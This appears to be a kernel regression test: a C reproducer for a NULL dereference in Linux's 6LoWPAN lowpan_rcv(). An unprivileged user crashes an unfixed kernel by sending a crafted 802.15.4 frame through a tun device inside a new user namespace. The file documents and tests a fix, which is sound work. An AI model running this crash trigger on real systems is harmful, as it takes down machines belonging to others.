// SPDX-License-Identifier: GPL-2.0
/*
 * ieee802154: 6lowpan: NULL dereference in lowpan_rcv(), reached by an
 * unprivileged user in a new user and network namespace.
 * Fix: ieee802154: 6lowpan: fix NULL deref in lowpan_rcv() on devices without a wpan_dev
 *
 * lowpan_rcv() is a packet_type of every network namespace, registered
 * when the first 6LoWPAN interface of the machine comes up; it takes a
 * frame's device type for proof of a wpan_dev.  As root, once (with no
 * 802.15.4 hardware, mac802154_hwsim gives wpan0):
 *
 *   modprobe mac802154_hwsim
 *   ip link add link wpan0 name lowpan0 type lowpan
 *   ip link set wpan0 up && ip link set lowpan0 up
 *
 * Then, as any user (unprivileged user namespaces allowed, as Debian's
 * default is):
 *
 *   cc -Wall -Wextra -o lowpan_rcv_userns lowpan_rcv_userns.c
 *   setpriv --reuid=nobody --regid=nogroup --clear-groups ./lowpan_rcv_userns
 *
 * It makes a tun device in its own namespace, of type ARPHRD_IEEE802154
 * (TUNSETLINK), and writes an 802.15.4 data frame of ETH_P_IEEE802154 to
 * it.  An unfixed kernel oopses in lowpan_rcv() reading
 * ieee802154_ptr->lowpan_dev; a fixed one drops the frame and this
 * program exits 0.  Exit 1: a step before the write failed.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>
#include <linux/if.h>
#include <linux/if_arp.h>
#include <linux/if_tun.h>

static int write_file(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY), ok;

	if (fd < 0)
		return -1;
	ok = write(fd, s, strlen(s)) == (ssize_t)strlen(s);
	close(fd);
	return ok ? 0 : -1;
}

int main(void)
{
	/* tun_pi (ETH_P_IEEE802154), then an 802.15.4 data frame, PAN ID
	 * compression, short addresses, whose first byte also reads as
	 * 6LoWPAN's IPv6 dispatch: lowpan_rx_h_check() lets it through. */
	static const unsigned char frame[] = {
		0, 0, 0x00, 0xf6,
		0x41, 0x88, 0x01, 0x34, 0x12, 0x01, 0x00, 0x02, 0x00, 'h', 'i',
	};
	struct ifreq ifr = { .ifr_name = "tun154", .ifr_flags = IFF_TUN };
	char map[32];
	uid_t uid = getuid();
	gid_t gid = getgid();
	int tun, s;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNET)) {
		perror("unshare(CLONE_NEWUSER | CLONE_NEWNET)");
		return 1;
	}
	snprintf(map, sizeof(map), "0 %u 1", uid);
	write_file("/proc/self/setgroups", "deny");
	if (write_file("/proc/self/uid_map", map)) {
		perror("uid_map");
		return 1;
	}
	snprintf(map, sizeof(map), "0 %u 1", gid);
	write_file("/proc/self/gid_map", map);

	tun = open("/dev/net/tun", O_RDWR);
	if (tun < 0 || ioctl(tun, TUNSETIFF, &ifr) ||
	    ioctl(tun, TUNSETLINK, (unsigned long)ARPHRD_IEEE802154)) {
		perror("tun");
		return 1;
	}
	s = socket(AF_INET, SOCK_DGRAM, 0);
	ifr.ifr_flags = IFF_UP;
	if (s < 0 || ioctl(s, SIOCSIFFLAGS, &ifr)) {
		perror("SIOCSIFFLAGS");
		return 1;
	}
	printf("frame of ETH_P_IEEE802154 to %s of type %d in a new netns...\n",
	       ifr.ifr_name, ARPHRD_IEEE802154);
	fflush(stdout);
	if (write(tun, frame, sizeof(frame)) != sizeof(frame)) {
		perror("write");
		return 1;
	}
	/* Received in softirq context: give it time before saying so. */
	usleep(200000);
	printf("frame dropped: not affected\n");
	return 0;
}
